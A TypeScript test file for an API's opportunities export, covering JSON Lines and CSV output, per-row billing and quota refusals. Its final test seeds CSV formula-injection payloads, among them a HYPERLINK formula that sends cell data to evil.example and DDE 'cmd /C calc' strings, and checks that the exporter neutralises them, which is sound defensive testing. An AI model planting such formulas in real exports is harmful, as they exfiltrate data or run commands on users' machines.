/**
 * GET /api/v1/opportunities/export: the export of a filter equals the list of the same
 * filter walked by cursor, as JSON Lines and as CSV, a question's best match and relevance order
 * included; it costs 1 call per started 1,000 rows sent; Business only; a refusal charges nothing.
 * What a HEAD, a disconnect and concurrent exports pay: export_settle_test.ts.
 */
import assert from "node:assert/strict";
import { dbTest } from "../helpers/db.ts";
import { loadFixture, makeKey, setUsed, type TestApp, testApp, usedOf } from "../helpers/app.ts";
import { OPPORTUNITY } from "../helpers/imports.ts";
import { importLines } from "../../src/ingest/import.ts";
import { csvCell } from "../../src/rest/csv.ts";
import { PLAN_LIMITS } from "../../src/platform/plans.ts";

/** Every item of the list of `filters`, walked by cursor in pages of 100. */
async function walk(app: TestApp, key: string, filters: string): Promise<unknown[]> {
  return (await walkList(app, key, filters)).items;
}

/** The list of `filters` walked by cursor: its items, its total and its match. */
async function walkList(app: TestApp, key: string, filters: string) {
  const items: Record<string, unknown>[] = [];
  let cursor: string | null = null;
  let total = 0;
  let match = "";
  do {
    const path: string = `/api/v1/opportunities?${filters}&page_size=100` +
      (cursor ? `&cursor=${encodeURIComponent(cursor)}` : "");
    const res = await app.get(path, key);
    assert.equal(res.status, 200);
    const body = await res.json();
    items.push(...body.items);
    cursor = body.next_cursor;
    total = body.total;
    match = body.match;
  } while (cursor !== null);
  return { items, total, match };
}

/** The fields of a CSV line (RFC 4180 quoting). */
function csvFields(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = "";
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') (value += '"'), (i += 2);
        else if (line[i] === '"') break;
        else value += line[i++];
      }
      fields.push(value);
      i += 2;
    } else {
      const end = line.indexOf(",", i);
      fields.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return fields;
}

dbTest(
  "the export equals the list, as JSON Lines and CSV, at 1 call per started 1,000 rows",
  async (db, t) => {
    const app = testApp(db);
    const { key, accountId } = await makeKey(db.sql, "business");

    await t.step("every row, JSON Lines: two chunks, two calls", async () => {
      const list = await walk(app, key, "online_only=false");
      assert.equal(list.length, 1300);
      const before = await usedOf(db.sql, accountId);
      const res = await app.get("/api/v1/opportunities/export?online_only=false", key);
      assert.equal(res.status, 200);
      assert.equal(res.headers.get("content-type"), "application/x-ndjson");
      assert.equal(res.headers.get("x-total-count"), "1300");
      assert.equal(res.headers.get("x-export-calls"), "2");
      assert.equal(res.headers.get("x-confidence"), null, "no q: nothing to judge");
      assert.equal(await usedOf(db.sql, accountId), before + 2, "reserved before the body");
      assert.equal(res.headers.get("x-quota-used"), String(before + 2));
      const text = await res.text();
      assert.ok(text.endsWith("\n"));
      const rows = text.trimEnd().split("\n").map((l) => JSON.parse(l));
      assert.deepEqual(rows, list);
    });

    await t.step("a filter and another sort, CSV", async () => {
      const filters = "recommendation=Build&min_score=50&sort=newest";
      const list = await walk(app, key, filters) as Record<string, unknown>[];
      assert.ok(list.length > 0);
      const before = await usedOf(db.sql, accountId);
      const res = await app.get(`/api/v1/opportunities/export?${filters}&format=csv`, key);
      assert.equal(res.status, 200);
      assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8");
      const lines = (await res.text()).split("\r\n");
      assert.equal(lines.pop(), "", "every line ends in CRLF");
      const header = csvFields(lines[0]);
      assert.deepEqual(header, Object.keys(list[0]));
      const rows = lines.slice(1).map(csvFields);
      assert.equal(rows.length, list.length);
      rows.forEach((row, i) => {
        assert.deepEqual(row, header.map((h) => String(list[i][h])), `row ${i}`);
      });
      assert.equal(await usedOf(db.sql, accountId), before + 1);
    });

    await t.step("an empty filter: no rows, 1 call", async () => {
      const before = await usedOf(db.sql, accountId);
      const res = await app.get("/api/v1/opportunities/export?channel=nowhere", key);
      assert.equal(res.status, 200);
      assert.equal(res.headers.get("x-total-count"), "0");
      assert.equal(await res.text(), "");
      assert.equal(await usedOf(db.sql, accountId), before + 1);
    });

    // "small" and "people" are in most rows, "zebra" in none: no row holds the question's rare
    // word, so the list answers the best match (any word), more than a chunk of it.
    for (const sort of ["", "&sort=score", "&sort=newest"]) {
      await t.step(
        `a best match${sort}: the list's rows in its order, charged as sent`,
        async () => {
          const filters = `q=small+people+zebra&online_only=false${sort}`;
          const list = await walkList(app, key, filters);
          assert.equal(list.match, "any");
          assert.ok(list.total > 1000, `${list.total} rows: more than a chunk`);
          assert.equal(list.items.length, list.total);
          const before = await usedOf(db.sql, accountId);
          const res = await app.get(`/api/v1/opportunities/export?${filters}`, key);
          assert.equal(res.status, 200);
          assert.equal(res.headers.get("x-total-count"), String(list.total));
          const calls = Math.ceil(list.total / 1000);
          assert.equal(res.headers.get("x-export-calls"), String(calls));
          // Nothing holds zebra: the rows do not address the question, and the headers say so.
          assert.ok(Number(res.headers.get("x-confidence")) < 0.5);
          assert.equal(res.headers.get("x-unmatched-terms"), "zebra");
          const rows = (await res.text()).trimEnd().split("\n").map((l) => JSON.parse(l));
          assert.deepEqual(rows.map((r) => r.id), list.items.map((i) => i.id), "the list's order");
          assert.deepEqual(rows, list.items);
          assert.equal(await usedOf(db.sql, accountId), before + calls);
        },
      );
    }

    for (const filters of ["q=invoice", "q=invoice+reminders&sort=relevance", "q=small+people"]) {
      await t.step(`relevance order (${filters}): the list's`, async () => {
        const list = await walkList(app, key, `${filters}&online_only=false`);
        assert.ok(list.items.length > 1, `${list.items.length} rows`);
        const res = await app.get(`/api/v1/opportunities/export?${filters}&online_only=false`, key);
        assert.equal(res.status, 200);
        assert.equal(res.headers.get("x-total-count"), String(list.total));
        const rows = (await res.text()).trimEnd().split("\n").map((l) => JSON.parse(l));
        assert.deepEqual(rows.map((r) => r.id), list.items.map((i) => i.id));
      });
    }
  },
  { seed: { opportunities: 1300 } },
);

dbTest("the export's refusals charge nothing", async (db, t) => {
  const app = testApp(db);
  const business = await makeKey(db.sql, "business");
  const pro = await makeKey(db.sql, "pro");

  await t.step("Pro: 403 plan_required", async () => {
    const res = await app.get("/api/v1/opportunities/export", pro.key);
    assert.equal(res.status, 403);
    assert.equal((await res.json()).error, "plan_required");
    assert.equal(await usedOf(db.sql, pro.accountId), 0);
  });
  await t.step("a bad format or filter: 422", async () => {
    for (const query of ["format=xml", "min_score=101", "sort=relevance"]) {
      const res = await app.get(`/api/v1/opportunities/export?${query}`, business.key);
      assert.equal(res.status, 422, query);
      assert.equal((await res.json()).error, "invalid_parameter");
    }
    assert.equal(await usedOf(db.sql, business.accountId), 0);
  });
  await t.step("a quota that cannot pay for all of it: 429 naming the price", async () => {
    await setUsed(db.sql, business.accountId, PLAN_LIMITS.business - 1);
    const res = await app.get("/api/v1/opportunities/export?online_only=false", business.key);
    assert.equal(res.status, 429);
    const body = await res.json();
    assert.equal(body.error, "quota_exceeded");
    assert.match(body.message, /costs 2 calls/);
    assert.equal(await usedOf(db.sql, business.accountId), PLAN_LIMITS.business - 1);
    const small = await app.get("/api/v1/opportunities/export?recommendation=Build", business.key);
    assert.equal(small.status, 200, "an export of one call still fits");
    await small.text();
    assert.equal(await usedOf(db.sql, business.accountId), PLAN_LIMITS.business);
    const full = await app.get("/api/v1/opportunities/export?recommendation=Build", business.key);
    assert.equal(full.status, 429, "nothing left");
    assert.equal(await usedOf(db.sql, business.accountId), PLAN_LIMITS.business);
  });
  await t.step("POST: 405", async () => {
    const res = await app.get("/api/v1/opportunities/export", business.key, { method: "POST" });
    assert.equal(res.status, 405);
  });
}, { seed: { opportunities: 1050 } });

/** Every record of a CSV text (RFC 4180: quoted fields may hold commas, quotes and CR LF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = "";
    if (text[i] === '"') {
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') (value += '"'), (i += 2);
        else if (text[i] === '"') break;
        else value += text[i++];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") value += text[i++];
    }
    fields.push(value);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) (records.push(fields), (fields = []), (i += 2));
    else throw new Error(`Unexpected character at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  return records;
}

dbTest("CSV cells that a spreadsheet would read as a formula stay text", async (db, t) => {
  const app = testApp(db);
  await loadFixture(db.sql);
  const hostile = {
    ...OPPORTUNITY,
    external_id: "formula-1",
    title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    channel_name: "@SUM(1+1)*cmd|' /C calc'!A0",
    target_audience: "=1+1",
    monetization_model: "-2+3",
  };
  const more = [
    { ...OPPORTUNITY, external_id: "formula-2", title: "+1 for invoices", target_audience: "+x" },
    { ...OPPORTUNITY, external_id: "formula-3", title: "-10% churn", monetization_model: "@x" },
    // Spreadsheets set to split on ";" (common in Europe) read a formula from a later part.
    {
      ...OPPORTUNITY,
      external_id: "formula-4",
      title: "Semicolon split",
      target_audience: "x;=cmd|' /C calc'!A0",
      monetization_model: "a; +1",
    },
  ];
  const summary = await importLines(db.sql, [hostile, ...more].map((r) => JSON.stringify(r)));
  assert.equal(summary.opportunities, 4);
  const { key, accountId } = await makeKey(db.sql, "business");

  await t.step("CSV: a leading ' before = + - and @, in every text column", async () => {
    const res = await app.get("/api/v1/opportunities/export?format=csv&online_only=false", key);
    assert.equal(res.status, 200);
    const [header, ...rows] = parseCsv(await res.text());
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    const byTitle = new Map(rows.map((row) => [cell(row, "title"), row]));
    const row = byTitle.get(`'${hostile.title}`);
    assert.ok(row, [...byTitle.keys()].join(" | "));
    assert.equal(cell(row, "channel_name"), `'${hostile.channel_name}`);
    assert.equal(cell(row, "target_audience"), "'=1+1");
    assert.equal(cell(row, "monetization_model"), "'-2+3");
    assert.equal(cell(row, "score"), "50", "numbers stay numbers");
    assert.equal(cell(byTitle.get("'+1 for invoices")!, "target_audience"), "'+x");
    assert.equal(cell(byTitle.get("'-10% churn")!, "monetization_model"), "'@x");
    for (const r of rows) {
      for (const value of r) assert.doesNotMatch(value, /^[=+\-@\t\r]/, JSON.stringify(r));
    }
    assert.equal(rows.length, 10);
    assert.equal(await usedOf(db.sql, accountId), 1, "the first call of the month: 1");
    const [{ today }] = await db.sql<{ today: Record<string, number> }[]>`
      select today from usage_counters where account_id = ${accountId}`;
    assert.deepEqual(Object.values(today), [1], "recorded for its key");
  });

  await t.step(
    "a ';' is always inside quotes: a ';'-splitting spreadsheet reads no formula",
    async () => {
      const res = await app.get("/api/v1/opportunities/export?format=csv&online_only=false", key);
      const text = await res.text();
      assert.ok(text.includes(`"x;=cmd|' /C calc'!A0"`), "the cell is quoted whole");
      // Outside quoted cells no ";" is left to split on.
      assert.doesNotMatch(text.replace(/"(?:[^"]|"")*"/g, ""), /;/);
      assert.equal(csvCell("x;=cmd"), `"x;=cmd"`);
      assert.equal(csvCell("a;b"), `"a;b"`);
    },
  );

  await t.step("a tab or a carriage return first (which imports trim): a leading ' too", () => {
    assert.equal(csvCell("\t=1+1"), "'\t=1+1");
    assert.equal(csvCell("\r=1"), `"'\r=1"`);
    assert.equal(csvCell("=a,b"), `"'=a,b"`);
    assert.equal(csvCell("a=b"), "a=b");
    assert.equal(csvCell(-5), "-5", "a number is no formula");
    assert.equal(csvCell(false), "false");
  });

  await t.step("JSON Lines: the values as they are", async () => {
    const res = await app.get("/api/v1/opportunities/export?online_only=false", key);
    const items = (await res.text()).trimEnd().split("\n").map((l) => JSON.parse(l));
    const item = items.find((i) => i.title === hostile.title);
    assert.ok(item);
    assert.equal(item.channel_name, hostile.channel_name);
    assert.equal(item.target_audience, hostile.target_audience);
    assert.equal(item.monetization_model, hostile.monetization_model);
  });
});
